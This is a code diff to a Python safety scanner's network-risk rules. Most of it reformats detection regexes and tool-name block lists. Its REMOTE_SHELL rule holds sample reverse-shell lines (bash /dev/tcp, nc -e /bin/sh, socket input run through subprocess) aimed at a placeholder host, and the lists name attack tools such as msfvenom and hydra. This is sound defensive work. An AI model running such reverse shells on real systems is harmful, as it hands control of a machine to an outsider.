@@ -8,7 +8,7 @@ from collections.abc import Iterator
 
 from safety.paths import place
 from safety.python_program import Call, Program
-from safety.python_values import HOLE, Ref, as_text
+from safety.python_values import HOLE, Ref, as_text, words
 from safety.rules.rule import Rule
 from safety.shell_script import Command, Script
 from safety.verdicts import Finding
@@ -60,7 +60,8 @@ REMOTE_SHELL = Rule(
     "network",
     "Commands that come over the network are run: another person at the keyboard.",
     bad=(
-        "import socket, subprocess\ns = socket.socket()\ns.connect(('h', 1))\nsubprocess.run(s.recv(99).decode(), shell=True)",
+        "import socket, subprocess\ns = socket.socket()\ns.connect(('h', 1))\n"
+        "subprocess.run(s.recv(99).decode(), shell=True)",
         "import os, socket\ns = socket.create_connection(('h', 1))\nos.dup2(s.fileno(), 0)",
         "#!bash\nbash -i >& /dev/tcp/h/1 0>&1",
         "#!bash\nnc -e /bin/sh h 1",
@@ -128,51 +129,86 @@ DATABASE = Rule(
 RULES = (REQUEST, SOCKET, LISTEN, MAIL, REMOTE_SHELL, RUN_DOWNLOAD, EXFILTRATE, METADATA, SNIFF, DATABASE)
 
 _SILENT = re.compile(
-    r"^(?:requests\.(?:exceptions|codes|utils|models|structures|adapters|auth|Session$|session$|Request$|packages)|httpx\.(?:Timeout|URL|Headers|QueryParams|Client$|AsyncClient$)"
-    r"|aiohttp\.(?:ClientTimeout|web\.(?:Response|json_response|Application|RouteTableDef))|urllib3\.(?:disable_warnings|exceptions|util)|urllib\.request\.(?:Request|pathname2url|url2pathname|build_opener|HTTP)"
-    r"|socket\.(?:gethostname|inet_|htons|ntohs|htonl|ntohl|socketpair|setdefaulttimeout|timeout|error|AddressFamily|getdefaulttimeout)"
-    r"|http\.client\.(?:responses|HTTPException)|smtplib\.SMTP\w*Error|paramiko\.(?:AutoAdd|Reject|RSAKey)|boto3\.dynamodb\.conditions|websockets\.exceptions|grpc\.(?:StatusCode|RpcError))"
+    r"^(?:requests\.(?:exceptions|codes|utils|models|structures|adapters|auth|Session$|session$|Request$"
+    r"|packages)|httpx\.(?:Timeout|URL|Headers|QueryParams|Client$|AsyncClient$)"
+    r"|aiohttp\.(?:ClientTimeout|web\.(?:Response|json_response|Application|RouteTableDef))"
+    r"|urllib3\.(?:disable_warnings|exceptions|util)|urllib\.request\.(?:Request|pathname2url|url2pathname"
+    r"|build_opener|HTTP)"
+    r"|socket\.(?:gethostname|inet_|htons|ntohs|htonl|ntohl|socketpair|setdefaulttimeout|timeout|error"
+    r"|AddressFamily|getdefaulttimeout)"
+    r"|http\.client\.(?:responses|HTTPException)|smtplib\.SMTP\w*Error|paramiko\.(?:AutoAdd|Reject|RSAKey)"
+    r"|boto3\.dynamodb\.conditions|websockets\.exceptions|grpc\.(?:StatusCode|RpcError))"
 )
 _REQUEST = re.compile(
-    r"^(?:requests\.|httpx\.|aiohttp\.(?:ClientSession|request|TCPConnector)|urllib3\.|urllib\.request\.|urllib\.urlopen|urllib\.urlretrieve|http\.client\.HTTPS?Connection|pycurl\.|httplib2?\.|treq\.|wget\.|mechanize\.|requests_html\."
-    r"|cloudscraper\.|curl_cffi\.|ftplib\.|pysftp\.|tftpy\.|feedparser\.parse|newspaper\.|scrapy\.|selenium\.webdriver\.(?:Chrome|Firefox|Edge|Remote|Safari)|playwright\.|pyppeteer\.|webbrowser\.|xmlrpc\.client\.ServerProxy"
-    r"|boto3\.(?:client|resource|Session)|botocore\.|google\.cloud\.|azure\.|dropbox\.|tweepy\.|praw\.|telegram\.|telebot\.|slack_sdk\.|slack\.|discord\.Client|discord\.ext|twilio\.|github\.Github|openai\.|anthropic\.|yfinance\.|wikipedia\.|pytube\.|yt_dlp\.|youtube_dl\.|gdown\.|kaggle\."
-    r"|nltk\.download|sklearn\.datasets\.fetch_|seaborn\.load_dataset|tensorflow\.keras\.datasets|keras\.datasets|datasets\.load_dataset|huggingface_hub\.|transformers\..*(?:from_pretrained|pipeline)$|gensim\.downloader\.|torch\.hub\.|openml\.|websocket\.|websockets\.|socketio\.|engineio\."
-    r"|gspread\.|ipinfo\.|whois\.|dns\.|speedtest\.|web3\.Web3|ipfshttpclient\.|stem\.|geocoder\.|geopy\.geocoders|pandas_datareader\.|instaloader\.|facebook\.|linkedin|pywhatkit\.|gtts\.gTTS|googletrans\.|netifaces\.)"
+    r"^(?:requests\.|httpx\.|aiohttp\.(?:ClientSession|request|TCPConnector)|urllib3\.|urllib\.request\."
+    r"|urllib\.urlopen|urllib\.urlretrieve|http\.client\.HTTPS?Connection|pycurl\.|httplib2?\.|treq\."
+    r"|wget\.|mechanize\.|requests_html\."
+    r"|cloudscraper\.|curl_cffi\.|ftplib\.|pysftp\.|tftpy\.|feedparser\.parse|newspaper\.|scrapy\."
+    r"|selenium\.webdriver\.(?:Chrome|Firefox|Edge|Remote|Safari)|playwright\.|pyppeteer\.|webbrowser\."
+    r"|xmlrpc\.client\.ServerProxy"
+    r"|boto3\.(?:client|resource|Session)|botocore\.|google\.cloud\.|azure\.|dropbox\.|tweepy\.|praw\."
+    r"|telegram\.|telebot\.|slack_sdk\.|slack\.|discord\.Client|discord\.ext|twilio\.|github\.Github"
+    r"|openai\.|anthropic\.|yfinance\.|wikipedia\.|pytube\.|yt_dlp\.|youtube_dl\.|gdown\.|kaggle\."
+    r"|nltk\.download|sklearn\.datasets\.fetch_|seaborn\.load_dataset|tensorflow\.keras\.datasets"
+    r"|keras\.datasets|datasets\.load_dataset|huggingface_hub\.|transformers\..*(?:from_pretrained"
+    r"|pipeline)$|gensim\.downloader\.|torch\.hub\.|openml\.|websocket\.|websockets\.|socketio\.|engineio\."
+    r"|gspread\.|ipinfo\.|whois\.|dns\.|speedtest\.|web3\.Web3|ipfshttpclient\.|stem\.|geocoder\."
+    r"|geopy\.geocoders|pandas_datareader\.|instaloader\.|facebook\.|linkedin|pywhatkit\.|gtts\.gTTS"
+    r"|googletrans\.|netifaces\.)"
 )
 _SOCKET = re.compile(
-    r"^(?:socket\.(?:socket|create_connection|create_server|getaddrinfo|gethostby|getnameinfo|getfqdn|fromfd|has_dualstack|SocketType)|asyncio\.(?:open_connection|open_unix_connection|start_server|start_unix_server)"
-    r"|asyncio\..*\.(?:create_connection|create_server|create_datagram_endpoint)$|telnetlib\.|paramiko\.|asyncssh\.|fabric\.|netmiko\.|pexpect\.pxssh|ssl\.(?:wrap_socket|get_server_certificate)|ssl\..*\.wrap_socket|multiprocessing\.connection\.(?:Listener|Client)|trio\.open_tcp|zmq\.|nmap\.|shodan\.|bluetooth\.|serial\.|can\.|icmplib\.|ping3\.|pythonping\.|grpc\.(?:insecure|secure)_channel|grpc\.aio\.|twisted\.internet\.reactor|eventlet\.connect|gevent\.socket|paho\.mqtt|kafka\.|pika\.|nats\.)"
+    r"^(?:socket\.(?:socket|create_connection|create_server|getaddrinfo|gethostby|getnameinfo|getfqdn"
+    r"|fromfd|has_dualstack|SocketType)|asyncio\.(?:open_connection|open_unix_connection|start_server"
+    r"|start_unix_server)"
+    r"|asyncio\..*\.(?:create_connection|create_server|create_datagram_endpoint)$|telnetlib\.|paramiko\."
+    r"|asyncssh\.|fabric\.|netmiko\.|pexpect\.pxssh|ssl\.(?:wrap_socket|get_server_certificate)"
+    r"|ssl\..*\.wrap_socket|multiprocessing\.connection\.(?:Listener|Client)|trio\.open_tcp|zmq\.|nmap\."
+    r"|shodan\.|bluetooth\.|serial\.|can\.|icmplib\.|ping3\.|pythonping\.|grpc\.(?:insecure|secure)_channel"
+    r"|grpc\.aio\.|twisted\.internet\.reactor|eventlet\.connect|gevent\.socket|paho\.mqtt|kafka\.|pika\.|nats\.)"
 )
 _LISTEN = re.compile(
-    r"^(?:http\.server\.(?:HTTPServer|ThreadingHTTPServer|test)|socketserver\.\w*Server|xmlrpc\.server\.|wsgiref\.simple_server\.make_server|uvicorn\.run|waitress\.serve|hypercorn|gunicorn|aiohttp\.web\.run_app|flask\.Flask\(\)\.run|flask_socketio\.SocketIO\(\)\.run"
-    r"|bottle\.run|cherrypy\.quickstart|tornado\..*\.listen|gradio\..*\.launch|dash\.Dash\(\)\.run|streamlit\.cli|pyftpdlib\.|grpc\.server|quart\.Quart\(\)\.run|sanic\.Sanic\(\)\.run|twisted\.web|aiosmtpd\.|smtpd\.|jupyter|rpyc\.|Pyro|nicegui\.ui\.run|livereload|pyngrok|flask_ngrok)"
+    r"^(?:http\.server\.(?:HTTPServer|ThreadingHTTPServer|test)|socketserver\.\w*Server|xmlrpc\.server\."
+    r"|wsgiref\.simple_server\.make_server|uvicorn\.run|waitress\.serve|hypercorn|gunicorn"
+    r"|aiohttp\.web\.run_app|flask\.Flask\(\)\.run|flask_socketio\.SocketIO\(\)\.run"
+    r"|bottle\.run|cherrypy\.quickstart|tornado\..*\.listen|gradio\..*\.launch|dash\.Dash\(\)\.run"
+    r"|streamlit\.cli|pyftpdlib\.|grpc\.server|quart\.Quart\(\)\.run|sanic\.Sanic\(\)\.run|twisted\.web"
+    r"|aiosmtpd\.|smtpd\.|jupyter|rpyc\.|Pyro|nicegui\.ui\.run|livereload|pyngrok|flask_ngrok)"
 )
 _MAIL = re.compile(
-    r"^(?:smtplib\.|imaplib\.|poplib\.|nntplib\.|yagmail\.|redmail\.|exchangelib\.|sendgrid\.|mailjet|win32com\.client\.Dispatch|flask_mail\.Mail\(\)\.send|django\.core\.mail\.|aiosmtplib\.|O365|mailgun|resend\.)"
+    r"^(?:smtplib\.|imaplib\.|poplib\.|nntplib\.|yagmail\.|redmail\.|exchangelib\.|sendgrid\.|mailjet"
+    r"|win32com\.client\.Dispatch|flask_mail\.Mail\(\)\.send|django\.core\.mail\.|aiosmtplib\.|O365|mailgun|resend\.)"
 )
 _SNIFF = re.compile(
     r"^(?:scapy\.|pyshark\.|pcapy\.|pcap\.|dpkt\.pcap\.|kamene\.|netfilterqueue\.|impacket\.|mitmproxy\.|arpspoof)"
 )
 _DATABASE = re.compile(
-    r"^(?:pymysql\.connect|MySQLdb\.connect|mysql\.connector\.|psycopg2?\.connect|asyncpg\.|aiomysql\.|aiopg\.|pymongo\.MongoClient|motor\.|redis\.(?:Redis|StrictRedis|from_url|ConnectionPool)|pymssql\.|pyodbc\.connect|cx_Oracle\.|oracledb\.|cassandra\.cluster|elasticsearch\.Elasticsearch|memcache\.|pymemcache|neo4j\.|ldap\.|ldap3\.|influxdb|snowflake\.|clickhouse|hvac\.Client|consul\.|etcd3?\.|docker\.(?:from_env|DockerClient|APIClient)|kubernetes\.)"
+    r"^(?:pymysql\.connect|MySQLdb\.connect|mysql\.connector\.|psycopg2?\.connect|asyncpg\.|aiomysql\."
+    r"|aiopg\.|pymongo\.MongoClient|motor\.|redis\.(?:Redis|StrictRedis|from_url|ConnectionPool)|pymssql\."
+    r"|pyodbc\.connect|cx_Oracle\.|oracledb\.|cassandra\.cluster|elasticsearch\.Elasticsearch|memcache\."
+    r"|pymemcache|neo4j\.|ldap\.|ldap3\.|influxdb|snowflake\.|clickhouse|hvac\.Client|consul\.|etcd3?\."
+    r"|docker\.(?:from_env|DockerClient|APIClient)|kubernetes\.)"
 )
 _URL = re.compile(r"^(?:https?|ftps?|sftp|wss?|s3|gs|telnet|ldap|smb|ssh|rtsp|tcp|udp)://", re.IGNORECASE)
 _DATABASE_URL = re.compile(r"^(?:mysql|postgres(?:ql)?|mongodb|redis|oracle|mssql|amqp)[a-z0-9+]*://", re.IGNORECASE)
 _READS_URL = re.compile(
-    r"\.(?:read_\w+|imread|open|loadtxt|genfromtxt|urlopen|urlretrieve|retrieve|parse|load|get|post|put|request|download|fetch|navigate|goto|from_url|pipeline|connect|open_url|get_file)$"
+    r"\.(?:read_\w+|imread|open|loadtxt|genfromtxt|urlopen|urlretrieve|retrieve|parse|load|get|post|put"
+    r"|request|download|fetch|navigate|goto|from_url|pipeline|connect|open_url|get_file)$"
 )
 _METADATA = re.compile(
     r"169\.254\.169\.254|metadata\.google\.internal|100\.100\.100\.200|fd00:ec2::254|169\.254\.170\.2"
 )
 _RECEIVED = re.compile(
-    r"\.(?:recv|recvfrom|recv_into|makefile\(\)\.(?:read|readline))\(|\.accept\(\)|^(?:requests|httpx|urllib\.request|urllib3|http\.client|aiohttp|websockets?|telnetlib|ftplib|paramiko|imaplib|smtpd)\b.*\(\)"
+    r"\.(?:recv|recvfrom|recv_into|makefile\(\)\.(?:read|readline))\(|\.accept\(\)|^(?:requests|httpx"
+    r"|urllib\.request|urllib3|http\.client|aiohttp|websockets?|telnetlib|ftplib|paramiko|imaplib|smtpd)\b.*\(\)"
 )
 _RUNNERS = re.compile(
-    r"^(?:os\.(?:system|popen|exec\w+|spawn\w+|posix_spawnp?)|subprocess\.\w+|commands\.\w+|pty\.spawn|exec|eval|compile|asyncio\.create_subprocess_\w+|code\.InteractiveInterpreter\(\)\.\w+|runpy\.\w+|marshal\.loads|types\.FunctionType)$"
+    r"^(?:os\.(?:system|popen|exec\w+|spawn\w+|posix_spawnp?)|subprocess\.\w+|commands\.\w+|pty\.spawn|exec"
+    r"|eval|compile|asyncio\.create_subprocess_\w+|code\.InteractiveInterpreter\(\)\.\w+|runpy\.\w+"
+    r"|marshal\.loads|types\.FunctionType)$"
 )
 _SENDERS = re.compile(
-    r"\.(?:post|put|patch|send|sendall|sendto|sendmail|send_message|storbinary|storlines|request|urlopen|upload_file|upload|put_object)$"
+    r"\.(?:post|put|patch|send|sendall|sendto|sendmail|send_message|storbinary|storlines|request|urlopen"
+    r"|upload_file|upload|put_object)$"
 )
 
 
@@ -265,16 +301,9 @@ def _remote(call: Call) -> Iterator[Finding]:
                     call.line, "runs what comes over the network", call.column
                 )
                 return
-    if call.name in ("os.dup2", "os.dup") or call.name.startswith("subprocess."):
-        if any(
-            isinstance(value, Ref)
-            and (
-                (value.name.endswith(".fileno()") and "socket" in value.name)
-                or re.match(r"^socket\.[\w.()]*$", value.name)
-            )
-            for value in flat
-        ):
-            yield REMOTE_SHELL.at(call.line, "hands a program's input and output to a socket", call.column)
+    hands_over = call.name in ("os.dup2", "os.dup") or call.name.startswith("subprocess.")
+    if hands_over and any(isinstance(value, Ref) and re.match(r"^socket\.[\w.()]*$", value.name) for value in flat):
+        yield REMOTE_SHELL.at(call.line, "hands a program's input and output to a socket", call.column)
 
 
 def _carries(program: Program) -> Iterator[Finding]:
@@ -291,135 +320,24 @@ def _carries(program: Program) -> Iterator[Finding]:
                     return
 
 
-_SHELL_REQUEST = frozenset(
-    [
-        "curl",
-        "wget",
-        "aria2c",
-        "http",
-        "https",
-        "lynx",
-        "w3m",
-        "links",
-        "elinks",
-        "ftp",
-        "lftp",
-        "sftp",
-        "scp",
-        "rsync",
-        "tftp",
-        "axel",
-        "fetch",
-        "youtube-dl",
-        "yt-dlp",
-        "gh",
-        "aws",
-        "gsutil",
-        "gcloud",
-        "az",
-        "s3cmd",
-        "rclone",
-        "svn",
-        "hg",
-        "nslookup",
-        "dig",
-        "host",
-        "whois",
-        "ping",
-        "ping6",
-        "traceroute",
-        "tracepath",
-        "mtr",
-        "xh",
-        "httpie",
-    ]
+_SHELL_REQUEST = words(
+    "curl wget aria2c http https lynx w3m links elinks ftp lftp sftp scp rsync tftp axel fetch youtube-dl "
+    "yt-dlp gh aws gsutil gcloud az s3cmd rclone svn hg nslookup dig host whois ping ping6 traceroute "
+    "tracepath mtr xh httpie"
 )
-_SHELL_SOCKET = frozenset(
-    [
-        "nc",
-        "ncat",
-        "netcat",
-        "telnet",
-        "ssh",
-        "socat",
-        "nmap",
-        "masscan",
-        "zmap",
-        "openssl",
-        "sshpass",
-        "autossh",
-        "rsh",
-        "rlogin",
-        "mosh",
-        "proxychains",
-        "hping3",
-        "arping",
-        "arp-scan",
-        "nbtscan",
-        "hydra",
-        "sqlmap",
-        "nikto",
-        "msfconsole",
-        "msfvenom",
-        "aircrack-ng",
-        "ngrok",
-        "cloudflared",
-        "chisel",
-    ]
+_SHELL_SOCKET = words(
+    "nc ncat netcat telnet ssh socat nmap masscan zmap openssl sshpass autossh rsh rlogin mosh "
+    "proxychains hping3 arping arp-scan nbtscan hydra sqlmap nikto msfconsole msfvenom aircrack-ng ngrok "
+    "cloudflared chisel"
 )
-_SHELL_SNIFF = frozenset(
-    [
-        "tcpdump",
-        "tshark",
-        "wireshark",
-        "dumpcap",
-        "ettercap",
-        "arpspoof",
-        "dsniff",
-        "ngrep",
-        "bettercap",
-        "mitmproxy",
-        "airodump-ng",
-        "tcpflow",
-    ]
+_SHELL_SNIFF = words(
+    "tcpdump tshark wireshark dumpcap ettercap arpspoof dsniff ngrep bettercap mitmproxy airodump-ng tcpflow"
 )
 _SHELL_MAIL = frozenset(["mail", "mailx", "sendmail", "mutt", "msmtp", "swaks", "ssmtp", "exim"])
-_SHELL_DATABASE = frozenset(
-    [
-        "mysql",
-        "mysqldump",
-        "mysqladmin",
-        "psql",
-        "pg_dump",
-        "mongo",
-        "mongosh",
-        "redis-cli",
-        "sqlcmd",
-        "clickhouse-client",
-        "cqlsh",
-        "influx",
-    ]
+_SHELL_DATABASE = words(
+    "mysql mysqldump mysqladmin psql pg_dump mongo mongosh redis-cli sqlcmd clickhouse-client cqlsh influx"
 )
-_SHELLS = frozenset(
-    [
-        "sh",
-        "bash",
-        "dash",
-        "zsh",
-        "ksh",
-        "ash",
-        "python",
-        "python2",
-        "python3",
-        "perl",
-        "ruby",
-        "node",
-        "php",
-        "source",
-        ".",
-        "eval",
-    ]
-)
+_SHELLS = words("sh bash dash zsh ksh ash python python2 python3 perl ruby node php source . eval")
 
 
 def shell(script: Script) -> Iterator[Finding]:
